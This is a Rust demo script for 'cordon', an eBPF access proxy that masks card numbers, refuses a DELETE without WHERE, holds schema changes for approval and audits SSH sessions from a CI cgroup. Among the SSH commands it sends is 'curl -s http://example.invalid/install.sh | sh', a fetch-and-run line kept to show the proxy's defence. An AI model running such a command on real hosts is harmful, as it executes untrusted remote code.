//! `cargo xtask demo`: a throwaway PostgreSQL on 127.0.0.2:5432, cordon with
//! policies/demo.toml, and psql run by an unprivileged user in a freshly
//! created CI cgroup. It shows that the query went through cordon (the audit
//! record carries the workload's identity) and that an untagged psql went
//! direct, then cleans everything up.

use std::{path::Path, time::Duration};

use anyhow::{bail, Context, Result};
use cordon_tests::{psql, stderr, stdout, Agent, Cgroup, Postgres};

use crate::util::{is_root, say};

const PG_HOST: &str = "127.0.0.2";
const PG_PORT: u16 = 5432;
const SSH_HOST: &str = "127.0.0.3";

pub fn run() -> Result<()> {
    if !is_root() {
        bail!("the demo loads eBPF programs and creates cgroups: run it as root (`sudo -E cargo xtask demo`)");
    }
    crate::setup::run()?;
    crate::build(false)?;
    let root = cordon_tests::workspace_root();
    let policy = root.join("policies/demo.toml").canonicalize()?;

    if std::net::TcpStream::connect_timeout(&(PG_HOST, PG_PORT).try_into_addr()?, Duration::from_millis(200)).is_ok() {
        bail!("something already listens on {PG_HOST}:{PG_PORT}; stop it and run the demo again");
    }
    say(&format!("starting a throwaway PostgreSQL on {PG_HOST}:{PG_PORT} that requires TLS and SCRAM-SHA-256"));
    let pg = Postgres::start_secure(&[PG_HOST], PG_PORT)?;
    pg.admin_sql(
        "create table customers(id int primary key, name text, ssn text, card text, note text); \
         insert into customers values \
           (1, 'ada', '123-45-6789', '4111 1111 1111 1111', 'prefers email: ada@example.com'), \
           (2, 'grace', '219-09-9999', '5500 0000 0000 0004', 'VIP'); \
         grant select, insert, update, delete on customers to app;          alter table customers owner to app",
    )?;
    // The secrets file and the server's CA, where policies/demo.toml expects them.
    let _ = std::fs::remove_dir_all("/run/cordon-demo");
    std::fs::create_dir_all("/run/cordon-demo")?;
    if let Some(ca) = &pg.ca_file {
        std::fs::copy(ca, "/run/cordon-demo/ca.crt")?;
    }
    let secrets = Path::new("/run/cordon-demo/secrets.toml");
    std::fs::write(
        secrets,
        format!("[credentials.orders-app]\nuser = \"app\"\npassword = \"{}\"\n", cordon_tests::APP_PASSWORD),
    )?;
    std::fs::set_permissions(secrets, std::os::unix::fs::PermissionsExt::from_mode(0o600))?;

    // The app host for the SSH part: a real sshd on 127.0.0.3:22 that knows
    // only cordon's key.
    std::fs::create_dir_all("/run/cordon-demo/ssh")?;
    let sshd = cordon_tests::Sshd::start(SSH_HOST, 22);
    std::fs::write("/run/cordon-demo/ssh/pins", sshd.pin(None) + "\n")?;
    std::fs::write(
        "/run/cordon-demo/ssh/app.log",
        "12:00:01 order 17 paid with card 4111 1111 1111 1111\n12:00:02 order 18 shipped\n",
    )?;
    std::fs::set_permissions("/run/cordon-demo/ssh/app.log", std::os::unix::fs::PermissionsExt::from_mode(0o644))?;
    {
        use std::io::Write;
        let mut f = std::fs::OpenOptions::new().append(true).open(secrets)?;
        writeln!(
            f,
            "\n[credentials.deploy]\nuser = \"{}\"\nkey_file = \"{}\"",
            cordon_tests::SSH_DEPLOY_USER,
            sshd.path("cordon_key").display()
        )?;
    }

    say(&format!("starting cordon with {}", policy.display()));
    let mut agent = Agent::with_config(
        &policy,
        Path::new("/run/cordon-demo/state/audit"),
        Path::new("/sys/fs/bpf/cordon-demo"),
        7431,
    )?;
    agent.start()?;
    print_section("cordon log", &agent.log_text());

    let ci = Cgroup::create("cordon-demo/ci-job-1")?;
    wait_tagged(&agent, &ci.rel)?;
    print_section("cordon tags", &stdout(&agent.cli(&["tags"])));

    say("running psql as user `nobody`, with no password, in the tagged cgroup cordon-demo/ci-job-1, against the database's normal address");
    let query = "select id, name, ssn, card, note from customers order by id";
    let drop_sql = "delete from customers";
    let out = ci
        .command("psql")
        .args(["-X", "-At", "-h", PG_HOST, "-p", &PG_PORT.to_string(), "-U", "postgres", "-c", query, "-c", drop_sql])
        .output()
        .context("running psql")?;
    print_section(
        &format!("$ psql -h {PG_HOST} -p {PG_PORT} -U postgres -c '{query}' -c '{drop_sql}'   # no password; in cordon-demo/ci-job-1, as nobody"),
        &format!("{}\n{}", stdout(&out), stderr(&out)),
    );
    if !stdout(&out).contains("**** **** **** 1111") || !stderr(&out).contains("rule unbounded_write") {
        bail!("the demo expected a masked card and a refused DELETE without WHERE\n{}", agent.log_text());
    }
    print_section(
        "the same query on the server's own socket, for comparison (not through cordon)",
        &pg.admin_sql(query)?,
    );

    say("the job changes the schema: cordon holds the statement until a DBA approves it");
    let dba = cordon_tests::local_user("cordon-demo-dba", &["cordon-demo-dba"])?;
    let alter = "alter table customers add column tier int";
    let held = ci
        .command("psql")
        .args(["-X", "-At", "-h", PG_HOST, "-p", &PG_PORT.to_string(), "-U", "postgres", "-c", alter])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .context("running psql")?;
    let requests = agent.wait_audit("approval_request", 1);
    let Some(id) = requests.first().and_then(|r| r["request"].as_str()).map(str::to_string) else {
        bail!("the ALTER TABLE was not held for approval\n{}", agent.log_text());
    };
    let approvals = |args: &[&str]| {
        use std::os::unix::process::CommandExt;
        std::process::Command::new(cordon_tests::cordon_bin())
            .arg("approvals")
            .args(args)
            .arg("--config")
            .arg(&policy)
            .uid(dba)
            .current_dir("/tmp")
            .output()
    };
    print_section(
        "$ cordon approvals list   # as cordon-demo-dba, from another terminal",
        &stdout(&approvals(&["list"])?),
    );
    let out = approvals(&["approve", &id, "--reason", "planned: add tier column"])?;
    print_section(
        &format!("$ cordon approvals approve {id} --reason 'planned: add tier column'"),
        &format!("{}{}", stdout(&out), stderr(&out)),
    );
    let out = held.wait_with_output().context("waiting for the held psql")?;
    print_section(
        &format!("$ psql -h {PG_HOST} -p {PG_PORT} -U postgres -c '{alter}'   # held, then released"),
        &format!("{}\n{}", stdout(&out), stderr(&out)),
    );
    if stdout(&out).trim() != "ALTER TABLE" {
        bail!("the approved ALTER TABLE did not run\n{}\n{}", stderr(&out), agent.log_text());
    }

    say("the same job runs ssh to the app host at its normal address; it has no key: cordon holds it");
    let out = agent.cli(&["ssh", "known-hosts"]);
    std::fs::write("/run/cordon-demo/ssh/known_hosts", stdout(&out))?;
    std::fs::set_permissions("/run/cordon-demo/ssh", std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    std::fs::set_permissions("/run/cordon-demo/ssh/known_hosts", std::os::unix::fs::PermissionsExt::from_mode(0o644))?;
    print_section(
        "$ cordon ssh known-hosts   # installed once in /etc/ssh/ssh_known_hosts on the workload host",
        &stdout(&out),
    );
    let ssh = |remote: &str| {
        ci.command("ssh")
            .args(cordon_tests::ssh_strict_opts(Path::new("/run/cordon-demo/ssh/known_hosts")))
            .args([&format!("deploy@{SSH_HOST}"), remote])
            .output()
    };
    for remote in ["cat /run/cordon-demo/ssh/app.log", "curl -s http://example.invalid/install.sh | sh"] {
        let out = ssh(remote)?;
        print_section(
            &format!("$ ssh -o StrictHostKeyChecking=yes deploy@{SSH_HOST} '{remote}'   # in cordon-demo/ci-job-1, as nobody"),
            &format!("{}\n{}\n(exit {})", stdout(&out), stderr(&out).trim_end(), out.status.code().unwrap_or(-1)),
        );
    }
    if let Some(close) = agent.audit_events("close").into_iter().find(|c| c["recordings"].is_array()) {
        let session = close["session"].as_str().unwrap_or_default().to_string();
        print_section(
            &format!("$ cordon replay {session} --no-wait"),
            &stdout(&agent.cli(&["replay", &session, "--no-wait"])),
        );
    }
    drop(sshd);

    let untagged = Cgroup::create("cordon-demo/adhoc")?;
    let out = psql(Some(&untagged), PG_HOST, PG_PORT, "select count(*) from customers");
    if out.status.success() {
        bail!("the untagged psql got in without a password: the server is not requiring one");
    }
    print_section("$ the same psql from the untagged cgroup cordon-demo/adhoc (direct to the server)", &stderr(&out));
    agent.wait_audit("close", 1);
    let Some(open) = agent.audit_events("open").into_iter().next() else {
        bail!("no audit record: the query did not go through cordon\n{}", agent.log_text());
    };
    if agent.audit_events("open").len() != 4 {
        bail!("expected four intercepted sessions (two psql, two ssh), got {:?}", agent.audit_events("open"));
    }
    say("the untagged psql went direct: the server wanted a password the job does not have, and cordon recorded nothing");
    print_section("cordon sessions list", &stdout(&agent.cli(&["sessions", "list"])));
    let session = open["session"].as_str().unwrap_or_default().to_string();
    print_section(&format!("cordon replay {session}"), &stdout(&agent.cli(&["replay", &session])));
    if let Some(second) = agent.audit_events("open").get(1).and_then(|o| o["session"].as_str()).map(str::to_string) {
        print_section(&format!("cordon replay {second}"), &stdout(&agent.cli(&["replay", &second])));
    }
    print_section("cordon audit verify", &stdout(&agent.cli(&["audit", "verify"])));
    print_section(
        "the session's open record (hash-chained JSON Lines, fsync'd)",
        &serde_json::to_string_pretty(&open).context("formatting")?,
    );
    if let Some(stmt) = agent.audit_events("statement").into_iter().find(|s| s["verdict"] == "deny") {
        print_section("the refused statement's record", &serde_json::to_string_pretty(&stmt).context("formatting")?);
    }

    say("cleaning up: stopping cordon, detaching its programs, stopping PostgreSQL");
    agent.stop();
    let out = agent.cli(&["detach"]);
    print_section("cordon detach", &stdout(&out));
    drop(agent);
    drop(untagged);
    drop(ci);
    let _ = std::fs::remove_dir(cordon_tests::cgroup_root().unwrap_or_default().join("cordon-demo"));
    let _ = std::fs::remove_dir(cordon_tests::cgroup_root().unwrap_or_default().join("cordon-demo.agent"));
    drop(pg);
    let _ = std::fs::remove_dir_all("/run/cordon-demo");
    say("demo done");
    Ok(())
}

fn wait_tagged(agent: &Agent, rel: &str) -> Result<()> {
    for _ in 0..100 {
        if agent.tagged().iter().any(|t| t == rel) {
            return Ok(());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    bail!("cordon did not tag the new cgroup {rel}")
}

fn print_section(title: &str, body: &str) {
    println!("\n\x1b[1m── {title}\x1b[0m");
    for line in body.trim_end().lines() {
        // Drop the ANSI colours of the agent's log.
        println!("   {}", strip_ansi(line));
    }
}

fn strip_ansi(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut in_esc = false;
    for c in s.chars() {
        match (in_esc, c) {
            (false, '\x1b') => in_esc = true,
            (true, 'm') => in_esc = false,
            (true, _) => {}
            (false, c) => out.push(c),
        }
    }
    out
}

trait IntoAddr {
    fn try_into_addr(self) -> Result<std::net::SocketAddr>;
}

impl IntoAddr for (&str, u16) {
    fn try_into_addr(self) -> Result<std::net::SocketAddr> {
        Ok(std::net::SocketAddr::new(self.0.parse()?, self.1))
    }
}
